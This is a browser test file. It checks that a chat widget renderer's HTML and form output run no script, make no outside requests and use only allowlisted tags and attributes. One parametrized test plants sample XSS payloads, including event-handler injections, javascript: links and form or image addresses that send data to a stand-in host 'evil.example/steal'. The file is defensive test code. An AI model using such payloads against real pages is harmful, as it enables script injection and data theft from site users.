"""Hostile widgets and input requests in Chromium, with the page's own policies off: nothing in them
runs, loads, or leads anywhere but where a link says."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser

from tests.browser.patch_page import PatchPage, open_patch_page
from tests.render.texts import FIXTURES
from widget.domain.conversations import InputRequestPart
from widget.domain.inputs import Action, Choice, Field, FieldKind, Form
from widget.render.widgets.actions import find_action, merged
from widget.render.widgets.door import with_door
from widget.render.widgets.form import form_html
from widget.render.widgets.tree import widget_html

pytestmark = pytest.mark.browser

CORPUS = json.loads((FIXTURES / "hostile_widgets.json").read_text("utf-8"))
TEXTS: list[str] = CORPUS["texts"]
KINDS: tuple[FieldKind, ...] = (
    *("text", "paragraph", "number", "choice", "choices", "file", "files"),
)
PLACE = "@"

# Shows every piece, opens what is folded, and touches, focuses and presses everything in it.
PROVOKE = """async (pieces) => {
  const EVENTS = ["mouseover", "pointerenter", "focus", "load", "error", "toggle", "animationend",
    "input", "change", "invalid", "submit"];
  for (const html of pieces) {
    const root = document.createElement("div");
    document.body.append(root);
    window.patches.setHtml(root, html);
    for (const element of root.querySelectorAll("details")) element.open = true;
    for (const element of root.querySelectorAll("*")) {
      for (const type of EVENTS) element.dispatchEvent(new Event(type, {cancelable: true}));
      if (element.focus) element.focus();
      if (element.click) {
        element.addEventListener("click", (event) => event.preventDefault(), { once: true });
        element.click();
      }
    }
  }
  await fetch("/settled");
  await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
  await fetch("/settled");
  return window.hits;
}"""
# Every element and attribute in the page, and the schemes of links and the targets of forms.
INVENTORY = """() => {
  const names = new Set();
  for (const element of document.querySelectorAll("body > div *")) {
    if (element.closest(".prose")) continue;  // the Markdown renderer's, with a corpus of its own
    names.add(element.localName);
    for (const {name} of element.attributes) names.add(`${element.localName}.${name}`);
    if (element.protocol !== undefined) names.add(element.protocol);
    if (element.localName === "form") names.add(element.getAttribute("action"));
    if (element.localName === "img") names.add(new URL(element.src).host);
  }
  return [...names].sort();
}"""
# Tags, then what each may carry.
EVERYWHERE = {"class", "id", "title", "aria-label", "aria-labelledby", "data-say"}
FIELD = {
    *("autocomplete", "disabled", "form", "name", "placeholder", "required", "aria-describedby"),
    *("data-change", "data-handler", "data-loading"),
}
PLAIN = (
    *("dd", "details", "dl", "dt", "figure", "h3", "hr", "i", "li", "p", "section", "small"),
    *("span", "strong", "summary", "table", "tbody", "thead", "title", "tr", "ul"),
)
KNOWN: dict[str, set[str]] = {
    "a": {"href", "rel", "target"},
    "button": {
        *("aria-hidden", "data-handler", "data-loading", "disabled", "form", "formnovalidate"),
        *("name", "tabindex", "type", "value"),
    },
    **{tag: set() for tag in PLAIN},
    "div": {"aria-describedby", "data-prose", "role"},
    "form": {"action", "enctype", "method"},
    "img": {"alt", "height", "loading", "src", "width"},
    "input": FIELD
    | {"checked", "max", "maxlength", "min", "multiple", "pattern", "step", "type", "value"},
    "label": {"for"},
    "option": {"disabled", "selected", "value"},
    "path": {"d"},
    "polygon": {"points"},
    "polyline": {"points"},
    "rect": {"height", "width", "x", "y"},
    "select": FIELD,
    "svg": {"aria-hidden", "role", "viewBox"},
    "td": {"colspan", "rowspan"},
    "text": {"x", "y"},
    "textarea": FIELD | {"maxlength", "rows"},
    "th": {"colspan", "rowspan", "scope"},
}
ALLOWED = {
    *KNOWN,
    *(f"{tag}.{name}" for tag, own in KNOWN.items() for name in own | EVERYWHERE),
    "details.open",  # we opened them
    # What links lead to, where forms go, and whose pictures show.
    *("http:", "https:", "/answers", "our.example"),
}


def armed(tree: Any, text: str) -> Any:
    """The tree with this text in every place for one."""
    match tree:
        case str():
            return tree.replace(PLACE, text)
        case dict():
            return {name.replace(PLACE, text): armed(value, text) for name, value in tree.items()}
        case list():
            return [armed(item, text) for item in tree]
        case _:
            return tree


def widgets(text: str) -> Iterator[str]:
    for tree in CORPUS["trees"]:
        yield widget_html(armed(tree, text), allowed_image_hosts=["our.example"], key=text)


def requests(text: str) -> Iterator[str]:
    choices = (Choice(text, text, text),)
    form = Form(
        title=text,
        text=text,
        fields=tuple(Field(text, text, kind, choices, True, (text,), text) for kind in KINDS),
        actions=(Action(text, text),),
        may_skip=True,
    )
    yield form_html(InputRequestPart(text, form))
    yield form_html(InputRequestPart(text, form, "answered", text, {text: (text, text)}))


def filled(html: str) -> str:
    return with_door(html, action="/answers", token="t", say=lambda key: key)


def provoked(browser: Browser, pieces: list[str]) -> tuple[Any, list[str], set[str]]:
    """Hits, addresses asked for, and names found, with CSP and Trusted Types off."""
    context = browser.new_context()
    page: PatchPage = open_patch_page(context, has_trusted_types=False)
    hits = page.run(PROVOKE, pieces)
    names = set(page.run(INVENTORY))
    asked = [url for url in page.asked if not url.endswith("/settled")]
    context.close()
    return hits, asked, names


@pytest.mark.parametrize(
    ("attack", "seen"),
    [
        ("<img src=x onerror=hit()>", "hit"),
        ("<input autofocus onfocus=hit()>", "hit"),
        ("<details ontoggle=hit()>x</details>", "hit"),
        ("<select onchange=hit()></select>", "hit"),
        ("<a href='javascript:hit()'>x</a>", "javascript:"),
        ("<form action=https://evil.example/steal></form>", "https://evil.example/steal"),
        ("<button formaction=https://evil.example/steal>x</button>", "button.formaction"),
        ("<img src=https://evil.example/p.png>", "https://evil.example/p.png"),
        ("<p style='background:url(https://evil.example/s)'>x</p>", "https://evil.example/s"),
        ("<svg><a href=https://evil.example/><text>x</text></a></svg>", "a"),
        ("<svg><use href=https://evil.example/i.svg /></svg>", "use"),
    ],
)
def test_harness_sees_a_planted_attack(browser: Browser, attack: str, seen: str) -> None:
    planted = widget_html({"type": "Card", "children": ["PLACE"]}).replace("PLACE", attack)

    hits, asked, names = provoked(browser, [planted])

    found = {*(["hit"] if hits else []), *asked, *names}
    assert seen in found - (ALLOWED - {"a"})


def test_corpus_is_large_enough() -> None:
    assert (len(TEXTS) >= 60, len(CORPUS["trees"]) >= 45) == (True, True)


@pytest.mark.parametrize("start", range(0, len(TEXTS), 12))
def test_hostile_widgets_run_nothing_and_ask_for_nothing(browser: Browser, start: int) -> None:
    pieces = [
        form(html)
        for text in TEXTS[start : start + 12]
        for make in (widgets, requests)
        for html in make(text)
        for form in (str, filled)
    ]

    hits, asked, names = provoked(browser, pieces)

    # Pictures of a host that the owner allows do load; the policy of the page still stands.
    assert [url for url in asked if not url.startswith("https://our.example/")] == []
    assert hits == 0
    assert names - ALLOWED - {None} == set()


def test_hostile_trees_set_off_only_what_they_hold() -> None:
    for text in TEXTS:
        for tree in (armed(tree, text) for tree in CORPUS["trees"]):
            if not isinstance(tree, dict):
                continue
            for control in ("confirm", "0.onClickAction", "0.onChangeAction", text):
                if action := find_action(tree, control):
                    values = {field.name: [text] for field in action.fields}
                    merged(action.payload, values, action.fields)
                    assert action.type == text
